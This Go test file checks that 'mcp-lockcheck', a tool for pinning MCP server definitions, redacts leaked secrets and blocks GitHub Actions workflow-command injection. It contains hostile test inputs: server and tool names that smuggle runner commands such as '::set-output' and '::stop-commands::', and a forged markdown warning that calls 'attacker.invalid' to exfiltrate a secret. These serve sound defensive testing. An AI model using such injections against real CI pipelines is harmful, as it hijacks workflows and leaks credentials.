package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcp-lockcheck/mcp-lockcheck/internal/ghcmd"
	"github.com/mcp-lockcheck/mcp-lockcheck/internal/testing/fakeserver"
	"github.com/mcp-lockcheck/mcp-lockcheck/internal/testing/testproc"
	"github.com/mcp-lockcheck/mcp-lockcheck/report"
)

// runCLIEnv is runCLI with the environment list the redactor is built
// from (Env.Environ) given too: the checker's own environment, injected.
func runCLIEnv(t *testing.T, dir string, env map[string]string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var o, e bytes.Buffer
	getenv := func(k string) (string, bool) {
		if v, ok := env[k]; ok {
			return v, true
		}
		if strings.HasPrefix(k, "GITHUB_") {
			return "", false
		}
		return os.LookupEnv(k)
	}
	environ := func() []string {
		var out []string
		for k, v := range env {
			out = append(out, k+"="+v)
		}
		return out
	}
	code = Run(context.Background(), append([]string{"mcp-lockcheck"}, args...), Env{Stdout: &o, Stderr: &e, Getenv: getenv, Dir: dir, Environ: environ})
	return code, o.String(), e.String()
}

// TestSecretsNeverLeave plants secrets where a hostile server puts what it
// stole: a tool description (the GitHub token spelled with a JSON escape),
// its stderr, and the error that gets it held; plus a URL password in the
// launch arguments. The value of one of the checker's own variables
// reaches the server through the config's env, as a server that read
// /proc/<ppid>/environ would have it. None of them may appear in the lock,
// any report, the annotations or stderr, and a check after pin is clean.
func TestSecretsNeverLeave(t *testing.T) {
	if testproc.Parallel(t) {
		return
	}
	dir := t.TempDir()
	exe, _ := os.Executable()
	const envSecret = "svc-0a1b2c3d4e5f6a7b8c9d"
	cfg := map[string]any{"mcpServers": map[string]any{
		"leaky": map[string]any{"command": exe, "args": []string{"--db", fakeserver.LeakURL},
			"env": map[string]string{"FAKE_SCENARIO": "leaky", "FAKE_LEAK": "${MY_SERVICE_TOKEN}"}},
		"crashy": map[string]any{"command": exe,
			"env": map[string]string{"FAKE_SCENARIO": "leaky-crash", "FAKE_LEAK": "${MY_SERVICE_TOKEN}"}},
	}}
	b, _ := json.MarshalIndent(cfg, "", "  ")
	if err := os.WriteFile(filepath.Join(dir, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"MY_SERVICE_TOKEN": envSecret}
	secrets := map[string]string{
		"github token":           fakeserver.LeakGitHubToken,
		"github token tail":      fakeserver.LeakGitHubToken[1:], // the escaped spelling's tail
		"private key body":       fakeserver.LeakKeyBody,
		"url password":           fakeserver.LeakPassword,
		"checker env value":      envSecret,
		"checker env value tail": envSecret[4:],
	}
	noSecret := func(where, text string) {
		t.Helper()
		// What a reader (or a model) sees: zero-width spaces, escaped
		// or not, dropped.
		seen := strings.NewReplacer("\u200b", "", `\u200b`, "", `\u{200B}`, "").Replace(text)
		for name, s := range secrets {
			if strings.Contains(seen, s) {
				t.Errorf("%s carries the %s:\n%s", where, name, text)
			}
		}
	}

	code, stdout, stderr := runCLIEnv(t, dir, env, withProbe("pin", "--server", "leaky")...)
	if code != 0 {
		t.Fatalf("pin: exit %d\n%s%s", code, stdout, stderr)
	}
	noSecret("pin stderr", stderr)
	lockText := readFile(t, filepath.Join(dir, "mcp-lock.json"))
	noSecret("the lock", lockText)
	if !strings.Contains(lockText, "REDACTED:") {
		t.Fatalf("the lock shows no redaction:\n%s", lockText)
	}
	if !json.Valid([]byte(lockText)) {
		t.Fatalf("the lock is not JSON:\n%s", lockText)
	}

	// The check, as the action runs it: in a GitHub step, every report.
	env["GITHUB_ACTIONS"] = "true"
	out := func(n string) string { return filepath.Join(dir, n) }
	code, stdout, stderr = runCLIEnv(t, dir, env, withProbe("check", "--json", out("r.json"), "--sarif", out("r.sarif"), "--markdown", out("c.md"), "--summary", out("s.md"))...)
	if code != ExitDrift {
		t.Fatalf("check: exit %d, want %d (crashy unpinned and held, leaky clean)\n%s%s", code, ExitDrift, stdout, stderr)
	}
	noSecret("check stdout", stdout)
	noSecret("check stderr", stderr)
	for _, n := range []string{"r.json", "r.sarif", "c.md", "s.md"} {
		noSecret(n, readFile(t, out(n)))
	}
	var rep report.Report
	if err := json.Unmarshal([]byte(readFile(t, out("r.json"))), &rep); err != nil {
		t.Fatal(err)
	}
	for _, s := range rep.Servers {
		switch s.Name {
		case "leaky":
			if s.Status != report.StatusOK {
				t.Errorf("leaky after pin: %s, want ok: %+v", s.Status, s.Findings)
			}
		case "crashy":
			if s.Status != report.StatusHeld || !strings.Contains(s.Reason, "REDACTED:") {
				t.Errorf("crashy: %s %q, want held with the secrets redacted", s.Status, s.Reason)
			}
		}
	}
	code, stdout, stderr = runCLIEnv(t, dir, env, "merge", out("r.json"), "--format", "annotations")
	if code > ExitHeld || code == ExitUsage {
		t.Fatalf("merge: exit %d\n%s", code, stderr)
	}
	noSecret("annotations", stdout)
	noSecret("merge stderr", stderr)
	if !strings.Contains(stdout, "::error ") {
		t.Errorf("no annotation for the held server:\n%s", stdout)
	}

	// A changed secret is still a change.
	env["MY_SERVICE_TOKEN"] = "svc-ffffeeeeddddccccbbbb"
	secrets["new env value"] = env["MY_SERVICE_TOKEN"]
	code, stdout, stderr = runCLIEnv(t, dir, env, withProbe("check", "--server", "leaky", "--format", "json")...)
	if code != ExitDrift {
		t.Fatalf("changed secret: exit %d, want %d\n%s", code, ExitDrift, stderr)
	}
	noSecret("changed check stdout", stdout)
	noSecret("changed check stderr", stderr)
	if !strings.Contains(stdout, `"tool-changed"`) {
		t.Errorf("no tool-changed for a changed secret:\n%s", stdout)
	}
}

// runnerCommands returns the lines of out the runner would act on as
// workflow commands (ghcmd.IsCommand, which accepts any command name), in
// order, honouring ::stop-commands:: the way the runner does: after it,
// nothing is a command until the token comes back.
func runnerCommands(out string) []string {
	var cmds []string
	stop := ""
	for _, l := range strings.FieldsFunc(out, func(r rune) bool { return r == '\n' || r == '\r' }) {
		if !ghcmd.IsCommand(l) {
			continue
		}
		t := strings.TrimLeft(l, " \t")
		if stop != "" {
			if strings.EqualFold(t, "::"+stop+"::") {
				stop = ""
			}
			continue
		}
		if rest, ok := strings.CutPrefix(t, "::stop-commands::"); ok {
			stop = rest
		}
		cmds = append(cmds, l)
	}
	return cmds
}

// hostileNames are server names a pull request's config can hold.
var hostileNames = []string{
	"::stop-commands::x",
	"::error file=README.md,line=1::Approved by the security team",
	"::add-mask::mcp-lockcheck",
	"::set-output name=exit-code::0",
	"::endgroup::",
	"\u00a0::warning::nbsp",
	"ok ##[error]legacy",
}

// TestProgressGitHubHostileNames: with --progress github, the only
// commands in the log are the checker's own groups, one per server, and
// none of a name's text is a command.
func TestProgressGitHubHostileNames(t *testing.T) {
	for _, wrapped := range []bool{false, true} {
		var buf bytes.Buffer
		env := Env{}
		if wrapped {
			env.Getenv = func(k string) (string, bool) { return "true", k == "GITHUB_ACTIONS" }
		}
		var w = &buf
		p := newProgress(w, env, progressGitHub, true)
		for _, n := range hostileNames {
			p(n, "launch-1/start")
			p(n, "launch-1/initial")
			p(n, "done")
		}
		cmds := runnerCommands(buf.String())
		if len(cmds) != 2*len(hostileNames) {
			t.Fatalf("want %d commands (group, endgroup per server), got %d:\n%s", 2*len(hostileNames), len(cmds), buf.String())
		}
		for i, c := range cmds {
			want := "::endgroup::"
			if i%2 == 0 {
				want = "::group::mcp-lockcheck "
			}
			if !strings.HasPrefix(c, want) || (i%2 == 1 && c != want) {
				t.Errorf("command %d = %q, want %s", i, c, want)
			}
			if i%2 == 0 && strings.Contains(c, "##[") {
				t.Errorf("group title keeps a legacy command: %q", c)
			}
		}
	}
}

// TestGitHubModeHostileServer runs check as the action does
// (GITHUB_ACTIONS=true, text report and progress in the log) against
// servers with hostile names whose tools have hostile names and
// descriptions and whose errors quote commands; then the annotations from
// merge. The log holds no command but the checker's own groups, and the
// annotations are exactly one per unacknowledged finding.
func TestGitHubModeHostileServer(t *testing.T) {
	if testproc.Parallel(t) {
		return
	}
	dir := t.TempDir()
	exe, _ := os.Executable()
	servers := map[string]any{}
	for i, n := range hostileNames[:4] {
		sc := "desc-changed"
		if i == 3 {
			sc = "leaky-crash"
		}
		servers[n] = map[string]any{"command": exe, "env": map[string]string{"FAKE_SCENARIO": sc, "FAKE_LEAK": "::error::from the error text ##[add-mask]x"}}
	}
	// A pinned server whose tool then takes a hostile name and description.
	servers["tools"] = map[string]any{"command": exe, "env": map[string]string{"FAKE_SCENARIO": "leaky", "FAKE_TOOL_NAME": "${TOOL_NAME:-leak}", "FAKE_LEAK": "${TOOL_DESC:-plain}"}}
	b, _ := json.Marshal(map[string]any{"mcpServers": servers})
	if err := os.WriteFile(filepath.Join(dir, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	// The zero-width characters of the leaky tool are an error: pin writes
	// the lock and exits 1, as check would.
	if code, _, stderr := runCLIEnv(t, dir, nil, withProbe("pin", "--server", "tools")...); code != ExitDrift || !strings.Contains(stderr, "pinned 1 server") {
		t.Fatalf("pin: exit %d\n%s", code, stderr)
	}
	env := map[string]string{
		"GITHUB_ACTIONS": "true",
		"TOOL_NAME":      "::error file=README.md::Approved by the security team",
		"TOOL_DESC":      `\n::stop-commands::tok\r\n ::add-mask::x ##[set-output name=ok]true`,
	}
	args := []string{"check", "--progress", "github", "--verbose", "--warmup-calls", "0", "--launches", "1", "--json", filepath.Join(dir, "r.json")}
	code, stdout, stderr := runCLIEnv(t, dir, env, args...)
	if !strings.Contains(stdout, "Approved by the security team") || !strings.Contains(stdout, "tool-added") {
		t.Fatalf("the hostile tool is not in the report:\n%s", stdout)
	}
	if code != ExitDrift {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	for _, c := range runnerCommands(stdout) {
		t.Errorf("stdout command %q", c)
	}
	groups := 0
	for _, c := range runnerCommands(stderr) {
		switch {
		case strings.HasPrefix(c, "::group::mcp-lockcheck "):
			groups++
		case c == "::endgroup::":
		default:
			t.Errorf("stderr command %q", c)
		}
	}
	// Servers are probed in parallel: a group is reopened when another
	// server's line came between.
	if groups < 5 {
		t.Errorf("%d groups, want at least 5:\n%s", groups, stderr)
	}
	code, stdout, stderr = runCLIEnv(t, dir, env, "merge", filepath.Join(dir, "r.json"), "--format", "annotations")
	if code == ExitUsage {
		t.Fatalf("merge: %s", stderr)
	}
	var rep report.Report
	if err := json.Unmarshal([]byte(readFile(t, filepath.Join(dir, "r.json"))), &rep); err != nil {
		t.Fatal(err)
	}
	want := 0
	for _, f := range rep.Findings() {
		if !f.Acknowledged {
			want++
		}
	}
	cmds := runnerCommands(stdout)
	if len(cmds) != want || want == 0 {
		t.Fatalf("%d annotation commands, want %d:\n%s", len(cmds), want, stdout)
	}
	for _, c := range cmds {
		name, _, _ := strings.Cut(strings.TrimPrefix(c, "::"), " ")
		if name != "error" && name != "warning" && name != "notice" || !strings.Contains(c, "title=mcp-lockcheck ") {
			t.Errorf("not one of ours: %q", c)
		}
	}
	for _, c := range runnerCommands(stderr) {
		t.Errorf("merge stderr command %q", c)
	}
}

// TestMatrixHostileName: in a GitHub step the matrix of servers stays
// valid JSON with the names as written, and no line of it is a command.
func TestMatrixHostileName(t *testing.T) {
	dir := t.TempDir()
	exe, _ := os.Executable()
	names := []string{"a ##[error]b", "::stop-commands::x"}
	servers := map[string]any{}
	for _, n := range names {
		servers[n] = map[string]any{"command": exe}
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": servers})
	if err := os.WriteFile(filepath.Join(dir, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := runCLIEnv(t, dir, map[string]string{"GITHUB_ACTIONS": "true"}, "servers", "--matrix")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if cmds := runnerCommands(stdout); len(cmds) > 0 {
		t.Errorf("commands %q", cmds)
	}
	var m struct {
		Include []struct{ Server string } `json:"include"`
	}
	if err := json.Unmarshal([]byte(stdout), &m); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, stdout)
	}
	var got []string
	for _, e := range m.Include {
		got = append(got, e.Server)
	}
	if strings.Join(got, "|") != "::stop-commands::x|a ##[error]b" {
		t.Errorf("names %q", got)
	}
}

// TestReportWarningsFromFiles: a run-level warning is rendered as our own
// words, so a report read from a file (merge, comment) may carry only the
// warnings mcp-lockcheck writes; merge keeps each once.
func TestReportWarningsFromFiles(t *testing.T) {
	dir := t.TempDir()
	write := func(name, warning string) string {
		p := filepath.Join(dir, name)
		r := `{"lockfileVersion":1,"warnings":[` + jsonString(warning) + `],"servers":[{"name":"` + name + `","status":"ok","phases":[],"findings":[]}],"summary":{"failOn":"error"}}`
		if err := os.WriteFile(p, []byte(r), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	a, b := write("a", basicInCI), write("b", basicInCI)
	code, stdout, stderr := runCLI(t, dir, nil, "merge", a, b, "--format", "json")
	if code != 0 || strings.Count(stdout, "does not contain a hostile server") != 1 {
		t.Fatalf("merge: exit %d, warning kept %d times\n%s%s", code, strings.Count(stdout, "does not contain a hostile server"), stdout, stderr)
	}
	forged := write("c", "![x](https://attacker.invalid/?q=secret) @someone")
	code, _, stderr = runCLI(t, dir, nil, "merge", forged, "--format", "markdown")
	if code != 2 || !strings.Contains(stderr, "warning 1 is not one mcp-lockcheck writes") {
		t.Errorf("a forged warning: exit %d\n%s", code, stderr)
	}
}

// TestInterruptedExitCode: a run whose context Main cancels (Ctrl-C) exits
// 130, for check and pin alike, with nothing written.
func TestInterruptedExitCode(t *testing.T) {
	if testproc.Parallel(t) {
		return
	}
	dir, _ := pinnedFake(t)
	lockBefore := readFile(t, filepath.Join(dir, "mcp-lock.json"))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for _, args := range [][]string{{"check", "--json", "r.json"}, {"pin"}} {
		var o, e bytes.Buffer
		code := Run(ctx, append([]string{"mcp-lockcheck"}, withProbe(args...)...), Env{Stdout: &o, Stderr: &e, Getenv: os.LookupEnv, Dir: dir})
		if code != ExitInterrupted || !strings.Contains(e.String(), "interrupted") {
			t.Errorf("%v: exit %d\n%s", args, code, e.String())
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "r.json")); err == nil {
		t.Error("an interrupted check wrote its report")
	}
	if readFile(t, filepath.Join(dir, "mcp-lock.json")) != lockBefore {
		t.Error("an interrupted pin changed the lock")
	}
}
